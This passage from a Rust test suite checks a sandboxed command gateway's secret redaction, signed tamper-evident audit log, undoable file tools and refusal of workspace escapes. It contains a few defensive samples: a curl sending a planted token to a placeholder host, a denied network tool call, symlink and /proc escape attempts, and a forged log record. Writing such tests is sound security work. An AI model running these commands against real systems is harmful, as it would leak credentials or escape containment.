        // Inside sh -c, too.
        let o = env.sh("strict", &format!("curl -H 'Authorization: token {tok}' x"));
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
        // A commit hash is not a secret.
        let o = env.exec("strict", &["echo", &corpus::expand("{h:40}", 11)]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    }
);

sandbox_test!(
    fn exec_refuses_secret_in_env() {
        let env = Env::new("sec-env");
        let tok = gh_token(12);
        let o = env
            .cmd()
            .args(["exec", "--policy", "strict", "--env"])
            .arg(format!("CONFIG=x {tok}"))
            .args(["--", "true"])
            .output()
            .expect("run");
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
        assert!(
            stderr(&o).contains("environment variable CONFIG"),
            "{}",
            text(&o)
        );
        assert!(!stderr(&o).contains(&tok));
    }
);

sandbox_test!(
    fn exec_redacts_output_on_both_streams() {
        let env = Env::new("sec-out");
        let tok = gh_token(13);
        let aws = corpus::expand("AKIA{U:16}", 14);
        let o = env.sh(
            "strict",
            "printf 'a %s b\\n' \"$(cat t1)\"; printf 'key=%s\\n' \"$(cat t2)\" >&2",
        );
        // The files do not exist yet: the command itself is clean.
        assert!(o.status.code().is_some());
        env.write("t1", &tok);
        env.write("t2", &aws);
        let o = env.sh(
            "strict",
            "printf 'a %s b\\n' \"$(cat t1)\"; printf 'key=%s\\n' \"$(cat t2)\" >&2",
        );
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        assert_eq!(stdout(&o), "a [REDACTED:github-pat] b\n");
        let e = stderr(&o);
        assert!(e.contains("key=[REDACTED:aws-access-key-id]"), "{e}");
        assert!(!e.contains(&aws) && !stdout(&o).contains(&tok));
    }
);

sandbox_test!(
    fn exec_redacts_a_secret_split_across_large_output() {
        let env = Env::new("sec-split");
        let tok = gh_token(15);
        // ~3 MB of output with the token at several offsets around pipe-buffer boundaries.
        let mut body = String::new();
        for i in 0..40_000 {
            body.push_str(&format!("line {i:06} of filler text here\n"));
            if i % 9_973 == 0 {
                body.push_str(&format!("secret {tok} end\n"));
            }
        }
        env.write("big.txt", &body);
        let o = env.exec("strict", &["cat", "big.txt"]);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        let out = stdout(&o);
        assert!(!out.contains(&tok));
        assert_eq!(out.matches("secret [REDACTED:github-pat] end").count(), 5);
        assert_eq!(
            out.len(),
            body.len() - 5 * tok.len() + 5 * "[REDACTED:github-pat]".len()
        );
    }
);

sandbox_test!(
    fn exec_stdin_secret_denied_under_strict_and_redacted_when_asked() {
        let env = Env::new("sec-stdin");
        let tok = gh_token(16);
        let run = |policy: &str| {
            let mut c = env.cmd();
            c.args(["exec", "--policy", policy, "--", "cat"])
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .stderr(Stdio::piped());
            let mut child = c.spawn().expect("spawn");
            let mut si = child.stdin.take().expect("stdin");
            si.write_all(format!("first line\nthe token {tok} here\nlast\n").as_bytes())
                .expect("write");
            drop(si);
            child.wait_with_output().expect("wait")
        };
        let o = run("strict");
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
        assert!(stderr(&o).contains("stdin") && stderr(&o).contains("github-pat"));
        assert!(!stdout(&o).contains(&tok));
        let p = env.root.join("redact-in.toml");
        std::fs::write(&p, "extends = \"strict\"\n[secrets]\ninput = \"redact\"\n")
            .expect("policy");
        let o = run(p.to_str().expect("utf-8"));
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        assert_eq!(
            stdout(&o),
            "first line\nthe token [REDACTED:github-pat] here\nlast\n"
        );
    }
);

sandbox_test!(
    fn exec_output_block_stops_the_command_and_warn_passes_through() {
        let env = Env::new("sec-block");
        let tok = gh_token(17);
        env.write("t", &tok);
        let block = env.root.join("block.toml");
        std::fs::write(
            &block,
            "extends = \"strict\"\n[secrets]\noutput = \"block\"\n",
        )
        .expect("p");
        let script = "echo before; cat t; echo; sleep 5; echo after";
        let o = env.sh(block.to_str().expect("utf-8"), script);
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
        assert_eq!(stdout(&o), "before\n");
        assert!(stderr(&o).contains("blocked") && stderr(&o).contains("github-pat"));
        let warn = env.root.join("warn.toml");
        std::fs::write(
            &warn,
            "extends = \"strict\"\n[secrets]\noutput = \"warn\"\n",
        )
        .expect("p");
        let o = env.sh(warn.to_str().expect("utf-8"), "cat t; echo");
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        assert_eq!(stdout(&o), format!("{tok}\n"));
        assert!(stderr(&o).contains("1 secret(s) in the output (github-pat), passed through"));
    }
);

sandbox_test!(
    fn exec_json_reports_secrets_by_rule_only() {
        let env = Env::new("sec-json");
        let tok = gh_token(18);
        env.write("t", &tok);
        let o = env
            .cmd()
            .args(["exec", "--json", "--policy", "strict", "--", "cat", "t"])
            .output()
            .expect("run");
        let raw = String::from_utf8_lossy(&o.stdout).into_owned();
        assert!(!raw.contains(&tok), "{raw}");
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        assert_eq!(v["stdout"], "[REDACTED:github-pat]");
        assert_eq!(v["secrets"]["output"][0]["rule"], "github-pat");
        assert_eq!(v["secrets"]["output"][0]["stream"], "stdout");
    }
);

#[test]
fn explain_shows_secrets_policy_and_argv_secrets_by_rule() {
    let env = Env::new("explain-secrets");
    let tok = gh_token(19);
    let o = env
        .cmd()
        .args([
            "policy", "explain", "--json", "--policy", "strict", "--", "echo", &tok,
        ])
        .output()
        .expect("run");
    assert!(o.status.success(), "{}", text(&o));
    let raw = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(!raw.contains(&tok));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    assert_eq!(v["secrets"]["output"], "redact");
    assert_eq!(v["secrets"]["input"], "deny");
    assert_eq!(v["secrets_in_argv"][0]["place"], "argument 1");
    assert_eq!(v["secrets_in_argv"][0]["rule"], "github-pat");
}

// ---------- audit log ----------

fn json_of(o: &Output) -> serde_json::Value {
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| panic!("json: {e}: {}", text(o)))
}

fn log_records(env: &Env) -> Vec<serde_json::Value> {
    let o = env
        .cmd()
        .args(["log", "query", "--json", "--limit", "0"])
        .output()
        .expect("query");
    assert!(o.status.success(), "{}", text(&o));
    json_of(&o)["records"].as_array().expect("records").clone()
}

sandbox_test!(
    fn audit_records_every_call_and_verifies() {
        let env = Env::new("audit-calls");
        assert!(env.exec("strict", &["echo", "hello"]).status.success());
        let o = env.exec("strict", &["curl", "http://example.com"]);
        assert_eq!(o.status.code(), Some(120));
        let o = env.exec("strict", &["no-such-program-here"]);
        assert_eq!(o.status.code(), Some(127));
        let o = env.sh("strict", "echo out; echo err >&2; exit 3");
        assert_eq!(o.status.code(), Some(3));
        let o = env.cmd().args(["scan", "."]).output().expect("scan");
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        let r = log_records(&env);
        assert_eq!(r.len(), 5, "{r:?}");
        let seqs: Vec<u64> = r.iter().map(|x| x["seq"].as_u64().expect("seq")).collect();
        assert_eq!(seqs, vec![1, 2, 3, 4, 5]);
        assert_eq!(r[0]["decision"]["effect"], "allow");
        assert_eq!(r[0]["exit_code"], 0);
        assert_eq!(r[0]["stdout"]["bytes"], 6);
        assert!(
            r[0]["enforcement"]
                .as_str()
                .expect("enforcement")
                .contains("seccomp true")
        );
        assert_eq!(r[1]["decision"]["effect"], "deny");
        assert_eq!(r[1]["decision"]["rules"][0], "deny-network-tools");
        assert!(r[1]["exit_code"].is_null());
        assert!(r[2]["error"].as_str().expect("error").contains("not found"));
        assert_eq!(r[3]["exit_code"], 3);
        assert_eq!(r[3]["caller"]["client"], "cli");
        assert_eq!(r[4]["tool"], "scan");
        // Filters.
        let o = env
            .cmd()
            .args(["log", "query", "--json", "--decision", "deny"])
            .output()
            .expect("q");
        assert_eq!(json_of(&o)["records"].as_array().expect("a").len(), 1);
        let o = env
            .cmd()
            .args(["log", "query", "--exit-code", "3", "--since", "1h"])
            .output()
            .expect("q");
        assert!(stdout(&o).contains("echo out"), "{}", text(&o));
        assert_eq!(stdout(&o).lines().count(), 1, "{}", text(&o));
        // Show with the stored output.
        let o = env.cmd().args(["log", "show", "4"]).output().expect("show");
        assert!(o.status.success(), "{}", text(&o));
        assert!(stdout(&o).contains("--- stdout: 4 bytes"), "{}", text(&o));
        assert!(stdout(&o).contains("\nout\n") && stdout(&o).contains("\nerr\n"));
        let o = env.cmd().args(["log", "verify"]).output().expect("verify");
        assert!(o.status.success(), "{}", text(&o));
        assert!(
            stdout(&o).contains("ok: 5 record(s), 5 checkpoint(s)"),
            "{}",
            text(&o)
        );
        let o = env
            .cmd()
            .args(["log", "tail", "-n", "2"])
            .output()
            .expect("tail");
        assert_eq!(stdout(&o).lines().count(), 2, "{}", text(&o));
    }
);

sandbox_test!(
    fn audit_tampering_is_named_by_verify() {
        let env = Env::new("audit-tamper");
        for i in 0..6 {
            assert!(
                env.exec("strict", &["echo", &format!("run {i}")])
                    .status
                    .success()
            );
        }
        let anchor = env.root.join("anchor");
        let o = env
            .cmd()
            .args(["log", "checkpoint", "--export"])
            .output()
            .expect("export");
        assert!(o.status.success(), "{}", text(&o));
        std::fs::write(&anchor, &o.stdout).expect("anchor");
        let logp = env.state.join("audit/log.jsonl");
        let orig = std::fs::read_to_string(&logp).expect("log");
        let verify = |extra: &[&str]| {
            let o = env
                .cmd()
                .args(["log", "verify"])
                .args(extra)
                .output()
                .expect("verify");
            (o.status.code(), stderr(&o))
        };
        // Edit a field of record 2.
        std::fs::write(&logp, orig.replace("run 1", "run X")).expect("w");
        let (code, e) = verify(&[]);
        assert_eq!(code, Some(1));
        assert!(e.contains("record 2 was edited"), "{e}");
        // Delete the last two records and every checkpoint after record 4: only the anchor
        // tells.
        let lines: Vec<&str> = orig.lines().collect();
        std::fs::write(&logp, lines[..4].join("\n") + "\n").expect("w");
        let cps = std::fs::read_to_string(env.state.join("audit/checkpoints")).expect("cps");
        // Each checkpoint: origin, size, root, a blank line, the signature, a blank line.
        let cp_lines: Vec<&str> = cps.lines().collect();
        assert_eq!(cp_lines.len(), 6 * 6, "{cps}");
        let kept: String = cp_lines[..4 * 6].iter().map(|l| format!("{l}\n")).collect();
        std::fs::write(env.state.join("audit/checkpoints"), kept).expect("w");
        let (code, e) = verify(&[]);
        assert_eq!(code, Some(0), "{e}");
        let (code, e) = verify(&["--anchor", anchor.to_str().expect("utf-8")]);
        assert_eq!(code, Some(1));
        assert!(e.contains("truncated after the anchor checkpoint"), "{e}");
        assert!(e.contains("commits to 6 records, the log has 4"), "{e}");
        // A record appended without the key: not covered by any checkpoint.
        std::fs::write(&logp, &orig).expect("w");
        std::fs::write(env.state.join("audit/checkpoints"), &cps).expect("w");
        let last = orig.lines().last().expect("last");
        assert!(last.starts_with("{\"seq\":6,\"prev\":\""), "{last}");
        let prev = {
            use std::fmt::Write as _;
            let mut h = sha256_leaf(last.as_bytes());
            let mut s = String::new();
            for b in h.drain(..) {
                let _ = write!(s, "{b:02x}");
            }
            s
        };
        // Record 6 copied as record 7, chained to it: a valid chain, but no key signed it.
        let forged = format!("{{\"seq\":7,\"prev\":\"{prev}{}", &last[81..]);
        let mut f = std::fs::OpenOptions::new()
            .append(true)
            .open(&logp)
            .expect("open");
        writeln!(f, "{forged}").expect("append");
        let (code, e) = verify(&[]);
        assert_eq!(code, Some(1));
        assert!(e.contains("not covered by a signed checkpoint"), "{e}");
    }
);

/// `SHA-256(0x00 || line)` computed by `sha256sum` (no hashing crate in the tests).
fn sha256_leaf(line: &[u8]) -> Vec<u8> {
    let mut c = Command::new("sha256sum")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("sha256sum");
    let mut i = c.stdin.take().expect("stdin");
    i.write_all(&[0]).expect("w");
    i.write_all(line).expect("w");
    drop(i);
    let o = c.wait_with_output().expect("wait");
    let hex = String::from_utf8_lossy(&o.stdout);
    (0..32)
        .map(|k| u8::from_str_radix(&hex[2 * k..2 * k + 2], 16).expect("hex"))
        .collect()
}

sandbox_test!(
    fn audit_key_rotation_and_replaced_key() {
        let env = Env::new("audit-keys");
        let o = env.cmd().args(["keys", "export"]).output().expect("export");
        assert!(o.status.success(), "{}", text(&o));
        let key0 = env.root.join("key0");
        std::fs::write(&key0, &o.stdout).expect("w");
        assert!(env.exec("strict", &["true"]).status.success());
        let o = env.cmd().args(["keys", "rotate"]).output().expect("rotate");
        assert!(o.status.success(), "{}", text(&o));
        assert!(stdout(&o).contains("/e1+"), "{}", text(&o));
        assert!(!env.state.join("keys/epoch-0.key").exists());
        assert!(env.exec("strict", &["true"]).status.success());
        let o = env
            .cmd()
            .args(["log", "verify", "--key", key0.to_str().expect("utf-8")])
            .output()
            .expect("verify");
        assert!(o.status.success(), "{}", text(&o));
        assert!(stdout(&o).contains("2 key epoch(s)"), "{}", text(&o));
        let o = env.cmd().args(["keys", "export"]).output().expect("export");
        assert_eq!(stdout(&o).lines().count(), 2, "{}", text(&o));
        // Someone replaces the keys and re-signs nothing: signatures fail. The exported key
        // also tells.
        std::fs::remove_dir_all(env.state.join("keys")).expect("rm");
        let o = env.cmd().args(["log", "verify"]).output().expect("verify");
        assert_eq!(o.status.code(), Some(1), "{}", text(&o));
        assert!(stderr(&o).contains("no public key"), "{}", text(&o));
        let o = env
            .cmd()
            .args(["log", "verify", "--key", key0.to_str().expect("utf-8")])
            .output()
            .expect("verify");
        assert!(o.status.success(), "{}", text(&o));
        // And the writer refuses to go on without the key of the current epoch.
        std::fs::create_dir_all(env.state.join("keys")).expect("mkdir");
        let o = env.exec("strict", &["true"]);
        assert_eq!(o.status.code(), Some(119), "{}", text(&o));
        assert!(stderr(&o).contains("audit"), "{}", text(&o));
    }
);

sandbox_test!(
    fn audit_concurrent_processes_never_fork_the_chain() {
        let env = Env::new("audit-race");
        let children: Vec<_> = (0..12)
            .map(|i| {
                env.cmd()
                    .args(["exec", "--policy", "strict", "--", "echo"])
                    .arg(format!("racer {i}"))
                    .stdout(Stdio::null())
                    .spawn()
                    .expect("spawn")
            })
            .collect();
        for mut c in children {
            assert!(c.wait().expect("wait").success());
        }
        let o = env.cmd().args(["log", "verify"]).output().expect("verify");
        assert!(o.status.success(), "{}", text(&o));
        assert!(stdout(&o).contains("ok: 12 record(s)"), "{}", text(&o));
    }
);

sandbox_test!(
    fn audit_no_secret_reaches_the_state_directory() {
        let env = Env::new("audit-secrets");
        let gh = gh_token(40);
        let aws = corpus::expand("AKIA{U:16}", 41);
        let slack = corpus::expand("xoxb-{d:11}-{d:12}-{a:24}", 42);
        let redact = env.policy_file("extends = \"strict\"\n[secrets]\ninput = \"redact\"\n");
        env.write("creds.txt", &format!("token = {gh}\n"));
        // In argv (refused, then redacted), env, stdin, output, a scanned file.
        let _ = env.exec("strict", &["echo", &gh]);
        let _ = env.exec(&redact, &["echo", &gh]);
        let _ = env
            .cmd()
            .args(["exec", "--policy", "strict", "--env"])
            .arg(format!("KEY={aws}"))
            .args(["--", "true"])
            .output()
            .expect("run");
        let mut c = env
            .cmd()
            .args(["exec", "--policy", &redact, "--", "cat"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("spawn");
        c.stdin
            .take()
            .expect("stdin")
            .write_all(format!("{slack}\n").as_bytes())
            .expect("w");
        let o = c.wait_with_output().expect("wait");
        assert!(stdout(&o).contains("[REDACTED:slack"), "{}", text(&o));
        let o = env.sh("strict", &format!("cat creds.txt; echo {aws} >&2"));
        assert!(!stdout(&o).contains(&gh));
        let _ = env.cmd().args(["scan", "."]).output().expect("scan");
        let _ = env
            .cmd()
            .args(["scan", "--redact", "."])
            .output()
            .expect("scan");
        // Every file under the state directory except the backups, which hold what
        // `scan --redact` replaced (by design: undo must restore it).
        let mut files = Vec::new();
        walk(&env.state, &mut files);
        assert!(files.len() > 10, "{files:?}");
        for f in files
            .iter()
            .filter(|f| !f.starts_with(env.state.join("backups")))
        {
            let data = std::fs::read(f).expect("read");
            let data = String::from_utf8_lossy(&data);
            for planted in [&gh, &aws, &slack] {
                assert!(
                    !data.contains(planted.as_str()),
                    "{} holds a planted token",
                    f.display()
                );
            }
        }
        let r = log_records(&env);
        assert!(r.len() >= 7, "{r:?}");
        let all = serde_json::to_string(&r).expect("json");
        assert!(all.contains("argument 1:github-pat"), "{all}");
        assert!(all.contains("stdin:slack"), "{all}");
        let o = env.cmd().args(["log", "verify"]).output().expect("verify");
        assert!(o.status.success(), "{}", text(&o));
    }
);

fn walk(dir: &Path, out: &mut Vec<PathBuf>) {
    for e in std::fs::read_dir(dir).expect("read_dir").flatten() {
        let p = e.path();
        if p.is_dir() {
            walk(&p, out);
        } else {
            out.push(p);
        }
    }
}

sandbox_test!(
    fn exec_json_returns_inline_output_and_the_artifact() {
        let env = Env::new("audit-inline");
        let p = env.policy_file("extends = \"strict\"\n[audit]\ninline_output = \"1KiB\"\n");
        let o = env
            .cmd()
            .args(["exec", "--json", "--policy", &p, "--", "sh", "-c"])
            .arg("yes 0123456789abcdef | head -c 5000")
            .output()
            .expect("run");
        assert!(o.status.success(), "{}", text(&o));
        let v = json_of(&o);
        assert_eq!(v["stdout"].as_str().expect("stdout").len(), 1024);
        assert_eq!(v["stdout_truncated"], true);
        assert_eq!(v["stderr_truncated"], false);
        assert_eq!(v["audit"]["stdout"]["bytes"], 5000);
        let id = v["audit"]["stdout"]["artifact"].as_str().expect("artifact");
        let stored = std::fs::read(env.state.join("audit/artifacts").join(id)).expect("artifact");
        assert_eq!(stored.len(), 5000);
        let seq = v["audit"]["seq"].as_u64().expect("seq").to_string();
        let o = env
            .cmd()
            .args(["log", "show", "--json", &seq])
            .output()
            .expect("show");
        let s = json_of(&o);
        assert_eq!(
            s["artifacts"][0]["content"].as_str().expect("c").len(),
            5000
        );
    }
);

// ---------- file tools, history, undo ----------

impl Env {
    fn gw(&self, args: &[&str]) -> Output {
        self.cmd().args(args).output().expect("run gateway")
    }
}

sandbox_test!(
    fn fs_edit_keeps_crlf_bom_and_final_newline_and_undo_is_byte_exact() {
        let env = Env::new("fs-edit");
        let orig: &[u8] = b"\xEF\xBB\xBFfn main() {\r\n    println!(\"a\");\r\n}";
        let p = env.ws.join("m.rs");
        std::fs::write(&p, orig).expect("w");
        let o = env.gw(&[
            "fs",
            "edit",
            "m.rs",
            "--old",
            "println!(\"a\");",
            "--new",
            "let x = 1;\n    println!(\"{x}\");",
        ]);
        assert!(o.status.success(), "{}", text(&o));
        assert!(
            stdout(&o).contains("+    println!(\"{x}\");"),
            "{}",
            text(&o)
        );
        assert_eq!(
            std::fs::read(&p).expect("r"),
            b"\xEF\xBB\xBFfn main() {\r\n    let x = 1;\r\n    println!(\"{x}\");\r\n}"
        );
        let o = env.gw(&["fs", "edit", "m.rs", "--append", "// end"]);
        assert!(o.status.success(), "{}", text(&o));
        assert!(std::fs::read(&p).expect("r").ends_with(b"}\r\n// end"));
        // Two undos restore the original bytes exactly.
        assert!(env.gw(&["undo"]).status.success());
        assert!(env.gw(&["undo"]).status.success());
        assert_eq!(std::fs::read(&p).expect("r"), orig);
        let o = env.gw(&["history", "--json"]);
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        assert_eq!(v["changes"].as_array().expect("a").len(), 4);
    }
);

sandbox_test!(
    fn fs_edit_refuses_ambiguous_missing_and_binary_leaving_the_file_untouched() {
        let env = Env::new("fs-refuse");
        let p = env.write("c.txt", "x = 1\ny = 2\nx = 1\n");
        let before = std::fs::read(&p).expect("r");
        let o = env.gw(&["fs", "edit", "c.txt", "--old", "x = 1", "--new", "x = 3"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(
            stderr(&o).contains("occurs 2 times (lines 1, 3)"),
            "{}",
            text(&o)
        );
        let o = env.gw(&["fs", "edit", "c.txt", "--old", "x =  1", "--new", "x = 3"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(stderr(&o).contains("not found"), "{}", text(&o));
        assert_eq!(std::fs::read(&p).expect("r"), before);
        let o = env.gw(&[
            "fs",
            "edit",
            "c.txt",
            "--old",
            "x = 1",
            "--new",
            "x = 3",
            "--all",
            "--dry-run",
        ]);
        assert!(o.status.success(), "{}", text(&o));
        assert!(stdout(&o).contains("-x = 1\n+x = 3"), "{}", text(&o));
        assert_eq!(
            std::fs::read(&p).expect("r"),
            before,
            "dry run changed the file"
        );
        std::fs::write(env.ws.join("b.bin"), b"\x7fELF\0\0\x01").expect("w");
        let o = env.gw(&["fs", "read", "b.bin"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(stderr(&o).contains("binary file"), "{}", text(&o));
        assert!(
            env.gw(&["fs", "read", "b.bin", "--binary"])
                .status
                .success()
        );
        std::fs::write(env.ws.join("l1.txt"), b"caf\xe9\n").expect("w");
        let o = env.gw(&["fs", "edit", "l1.txt", "--append", "x"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(stderr(&o).contains("not UTF-8"), "{}", text(&o));
        assert_eq!(
            std::fs::read(env.ws.join("l1.txt")).expect("r"),
            b"caf\xe9\n"
        );
    }
);

sandbox_test!(
    fn fs_read_numbers_lines_and_redacts_secrets() {
        let env = Env::new("fs-read");
        let tok = gh_token(50);
        env.write("r.txt", &format!("one\ntwo\ntoken = {tok}\nfour\n"));
        let o = env.gw(&[
            "fs", "read", "r.txt", "--offset", "2", "--limit", "2", "--json",
        ]);
        assert!(o.status.success(), "{}", text(&o));
        assert!(!stdout(&o).contains(&tok));
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        assert_eq!(v["output"]["lines"][0], serde_json::json!([2, "two"]));
        assert_eq!(
            v["output"]["lines"][1],
            serde_json::json!([3, "token = [REDACTED:github-pat]"])
        );
        assert_eq!(v["output"]["total_lines"], 4);
        assert_eq!(v["output"]["truncated"], true);
    }
);

sandbox_test!(
    fn fs_undo_refuses_a_file_changed_since_unless_forced() {
        let env = Env::new("fs-undo");
        let p = env.write("u.txt", "v1\n");
        assert!(
            env.gw(&["fs", "write", "u.txt", "--content", "v2\n"])
                .status
                .success()
        );
        std::fs::write(&p, "v3 by someone else\n").expect("w");
        let o = env.gw(&["undo"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(
            stderr(&o).contains("changed since change 1"),
            "{}",
            text(&o)
        );
        assert!(stderr(&o).contains("+v3 by someone else"), "{}", text(&o));
        assert_eq!(
            std::fs::read_to_string(&p).expect("r"),
            "v3 by someone else\n"
        );
        let o = env.gw(&["undo", "--force"]);
        assert!(o.status.success(), "{}", text(&o));
        assert_eq!(std::fs::read_to_string(&p).expect("r"), "v1\n");
        // The overwritten content was backed up: undoing the undo brings it back.
        assert!(env.gw(&["undo", "2"]).status.success());
        assert_eq!(
            std::fs::read_to_string(&p).expect("r"),
            "v3 by someone else\n"
        );
        // Undo of a creation removes the file; undoing that restores it.
        assert!(
            env.gw(&["fs", "write", "new.txt", "--content", "n"])
                .status
                .success()
        );
        assert!(env.gw(&["undo", "4"]).status.success());
        assert!(!env.ws.join("new.txt").exists());
        assert!(env.gw(&["undo", "5"]).status.success());
        assert_eq!(
            std::fs::read_to_string(env.ws.join("new.txt")).expect("r"),
            "n"
        );
    }
);

sandbox_test!(
    fn fs_tools_refuse_escapes() {
        let env = Env::new("fs-escape");
        std::fs::write(env.outside.join("s"), "OUT").expect("w");
        std::os::unix::fs::symlink(&env.outside, env.ws.join("link-dir")).expect("ln");
        std::os::unix::fs::symlink(env.outside.join("s"), env.ws.join("link-file")).expect("ln");
        std::fs::hard_link(env.outside.join("s"), env.ws.join("hard")).expect("ln");
        std::os::unix::fs::symlink("/proc/self/root/etc/hostname", env.ws.join("proc"))
            .expect("ln");
        let outside = env.outside.join("s").display().to_string();
        // A new file outside (no hard link to trip on): the host's /tmp is not the file tools'.
        let outside_new = env.outside.join("new").display().to_string();
        for args in [
            vec!["fs", "write", outside_new.as_str(), "--content", "x"],
            vec!["fs", "mkdir", outside_new.as_str()],
            vec!["fs", "write", "../outside/s", "--content", "x"],
            vec!["fs", "write", outside.as_str(), "--content", "x"],
            vec!["fs", "write", "link-dir/s", "--content", "x"],
            vec!["fs", "write", "link-file", "--content", "x"],
            vec!["fs", "write", "hard", "--content", "x"],
            vec!["fs", "edit", "link-file", "--append", "x"],
            vec!["fs", "write", "proc", "--content", "x"],
        ] {
            let o = env.gw(&args);
            assert_eq!(o.status.code(), Some(122), "{args:?}: {}", text(&o));
            assert!(stderr(&o).contains("refused"), "{args:?}: {}", text(&o));
        }
        assert_eq!(
            std::fs::read_to_string(env.outside.join("s")).expect("r"),
            "OUT"
        );
        // Reading through a link out of the workspace, or the state directory, is refused too.
        let o = env.gw(&["fs", "read", "link-dir/s", "--policy", "strict"]);
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
        assert!(!stdout(&o).contains("OUT"));
        let log = env.state.join("audit/log.jsonl").display().to_string();
        let o = env.gw(&["fs", "read", &log]);
        assert_ne!(o.status.code(), Some(0), "{}", text(&o));
        // Every call is in the audit log.
        let o = env.gw(&[
            "log", "query", "--tool", "fs.write", "--json", "--limit", "0",
        ]);
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        assert_eq!(v["records"].as_array().expect("a").len(), 7);
        assert!(!env.outside.join("new").exists());
    }
);

sandbox_test!(
    fn fs_write_survives_sigkill_at_random_moments_and_the_journal_recovers() {
        let env = Env::new("fs-crash");
        let p = env.ws.join("big.txt");
        let a = "a".repeat(4 << 20);
        let b = "b".repeat(4 << 20);
        std::fs::write(&p, &a).expect("w");
        let src_a = env.root.join("a");
        let src_b = env.root.join("b");
        std::fs::write(&src_a, &a).expect("w");
        std::fs::write(&src_b, &b).expect("w");
        let mut killed = 0;
        for i in 0..120u64 {
            let src = if i % 2 == 0 { &src_b } else { &src_a };
            let mut c = env
                .cmd()
                .args(["fs", "write", "big.txt", "--content-file"])
                .arg(src)
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .expect("spawn");
            // A pseudo-random moment in the first ~40 ms.
            std::thread::sleep(std::time::Duration::from_micros((i * 7919) % 40_000));
            if c.try_wait().expect("wait").is_none() {
                let _ = c.kill();
                killed += 1;
            }
            let _ = c.wait();
            let now = std::fs::read(&p).expect("read");
            assert!(
                now == a.as_bytes() || now == b.as_bytes(),
                "torn file after trial {i}"
            );
        }
        assert!(killed > 10, "only {killed} writes were interrupted");
        // The next change recovers the journal: nothing stays pending.
        let o = env.gw(&["fs", "write", "other.txt", "--content", "x"]);
        assert!(o.status.success(), "{}", text(&o));
        let o = env.gw(&["history", "--json"]);
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        let pending = v["changes"]
            .as_array()
            .expect("a")
            .iter()
            .filter(|c| c["phase"] == "pending")
            .count();
        assert_eq!(pending, 0, "{v}");
        // A big.txt change was pending only if a kill hit between intent and commit; its
        // temporary files are gone either way once big.txt is written again.
        assert!(
            env.gw(&["fs", "edit", "big.txt", "--append", "z"])
                .status
                .success()
        );
        let leftovers: Vec<_> = std::fs::read_dir(&env.ws)
            .expect("ls")
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| n.contains("gateway-tmp"))
            .collect();
        assert!(leftovers.is_empty(), "{leftovers:?}");
        let now = std::fs::read(&p).expect("read");
        assert!(now.starts_with(b"aaaa") || now.starts_with(b"bbbb"));
        assert_eq!(now.len(), (4 << 20) + 2);
    }
);

sandbox_test!(
    fn fs_rm_mkdir_mv_go_through_trash_and_undo() {
        let env = Env::new("fs-tree");
        let ok = |args: &[&str]| {
            let o = env.gw(args);
            assert!(o.status.success(), "{args:?}: {}", text(&o));
            o
        };
        ok(&["fs", "mkdir", "-p", "d1/a/b"]);
        let o = env.gw(&["fs", "mkdir", "x/y"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert!(stderr(&o).contains("pass -p"), "{}", text(&o));
        ok(&["fs", "write", "d1/a/b/f.txt", "--content", "hi"]);
        let o = ok(&["fs", "ls", "d1/a/b"]);
        assert!(stdout(&o).contains("f.txt"), "{}", text(&o));
        ok(&["fs", "mv", "d1", "d2"]);
        assert!(env.ws.join("d2/a/b/f.txt").exists() && !env.ws.join("d1").exists());
        // Never over an existing file.
        env.write("other.txt", "keep");
        let o = env.gw(&["fs", "mv", "d2/a/b/f.txt", "other.txt"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        assert_eq!(
            std::fs::read_to_string(env.ws.join("other.txt")).expect("r"),
            "keep"
        );
        // rm: a directory needs -r; then it is in the trash, and undo brings it back.
        let o = env.gw(&["fs", "rm", "d2"]);
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
        ok(&["fs", "rm", "-r", "d2"]);
        assert!(!env.ws.join("d2").exists());
        let o = ok(&["trash", "list", "--json"]);
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        assert_eq!(v["items"][0]["name"], "d2");
        assert!(
            v["items"][0]["original"]
                .as_str()
                .expect("o")
                .ends_with("/ws/d2")
        );
        let info =
            std::fs::read_to_string(env.state.join("trash/info/d2.trashinfo")).expect("info");
        assert!(
            info.starts_with("[Trash Info]\nPath=/") && info.contains("DeletionDate="),
            "{info}"
        );
        ok(&["undo"]);
        assert_eq!(
            std::fs::read_to_string(env.ws.join("d2/a/b/f.txt")).expect("r"),
            "hi"
        );
        ok(&["undo"]); // the move
        assert!(env.ws.join("d1/a/b/f.txt").exists() && !env.ws.join("d2").exists());
        // A file removed, restored by name.
        ok(&["fs", "rm", "d1/a/b/f.txt"]);
        assert!(!env.ws.join("d1/a/b/f.txt").exists());
        ok(&["trash", "restore", "f.txt"]);
